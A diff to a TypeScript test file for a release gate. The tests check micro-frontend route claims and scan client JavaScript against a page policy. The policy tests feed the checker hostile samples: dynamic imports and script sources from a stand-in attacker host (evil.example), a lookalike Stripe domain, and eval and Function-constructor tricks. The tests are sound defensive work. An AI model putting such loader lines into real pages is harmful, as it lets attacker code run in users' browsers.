@@ -1,6 +1,6 @@
 /** What differs between a release and the portal that runs: contract, shared modules, and the API. */
-import type { OperationShape } from '../contracts/platform';
-import { checkAgainstShell, checkOperations } from './release-gate';
+import type { OperationShape, ReleasedRoute } from '../contracts/platform';
+import { checkAgainstShell, checkClaims, checkFiles, checkOperations } from './release-gate';
 
 const shell = {
   contract: '1',
@@ -108,5 +108,84 @@ describe('against the API', () => {
     expect(checkOperations({ operations: { 'PUT /cards': then } }, {})).toEqual([
       'it calls PUT /cards, which the API does not have',
     ]);
+  });
+});
+
+describe('against what others have', () => {
+  const route = (path: string, fields: Partial<ReleasedRoute> = {}): ReleasedRoute => ({
+    path,
+    guard: 'agent',
+    title: path,
+    files: [],
+    ...fields,
+  });
+  const others: Parameters<typeof checkClaims>[1]['others'] = [
+    { name: 'mf-agent', routes: [route('/leads'), route('/onboarding', { isOnboarding: true })] },
+    { name: 'mf-sales', routes: [route('/client-leads', { guard: 'sales', insteadOf: '/leads' })] },
+  ];
+  const check = (one: ReleasedRoute) =>
+    checkClaims(
+      { name: 'mf-broker', routes: [one] },
+      { prefixes: ['/broker'], others, before: null, mayWeakenGuards: false },
+    );
+
+  it.each<[string, ReleasedRoute, string]>([
+    ['a page below the shell’s', route('/login/desk'), 'it claims /login/desk, which is for the shell'],
+    ['a path of the API', route('/api/leads'), 'it claims /api/leads, which is for the server'],
+    [
+      'a second wizard',
+      route('/broker', { isOnboarding: true }),
+      '/broker is the onboarding wizard, which mf-agent brings',
+    ],
+    [
+      'a page in place of all',
+      route('/broker', { insteadOf: '/*' }),
+      '/broker stands in for /*, which is no single path',
+    ],
+    [
+      'a page where another stands in',
+      route('/broker', { guard: 'sales', insteadOf: '/leads' }),
+      '/broker stands in for /leads, as /client-leads of mf-sales does',
+    ],
+  ])('refuses %s', (_, one, reason) => {
+    expect(check(one)).toEqual([reason]);
+  });
+
+  it('takes a page in place of another for people whom no other admits', () => {
+    expect(check(route('/broker', { guard: 'admin', insteadOf: '/leads' }))).toEqual([]);
+  });
+});
+
+describe('against the policy of the pages', () => {
+  const check = (text: string) => checkFiles([{ path: 'client/a.js', text }]);
+
+  it.each([
+    'import("https://evil.example/x.js")',
+    'const from = "https://evil.example/x.js?v=1"; import(from)',
+    'script.src="//evil.example/x"',
+    'importScripts("x.js")',
+    'const from = "https://js.stripe.com.evil.example/x.js"',
+  ])('refuses code of another origin: %s', (text) => {
+    expect(check(text)).toEqual(['client/a.js loads code from another origin']);
+  });
+
+  it.each([
+    'eval("1")',
+    '(0,eval)("1")',
+    'window.eval("1")',
+    'self.Function("return 1")()',
+    'new Function("return 1")()',
+    'setTimeout("alert(1)", 0)',
+    '[].map.constructor("return 1")()',
+  ])('refuses text as code: %s', (text) => {
+    expect(check(text)).toEqual(['client/a.js evaluates text as code']);
+  });
+
+  it.each([
+    'script.src="https://js.stripe.com/endive/stripe.js"',
+    'setTimeout(()=>done(),0); model.eval(x); this.constructor(options)',
+    'const help="https://farmpost.example/help"',
+  ])('takes %s', (text) => {
+    expect(check(text)).toEqual([]);
   });
 });
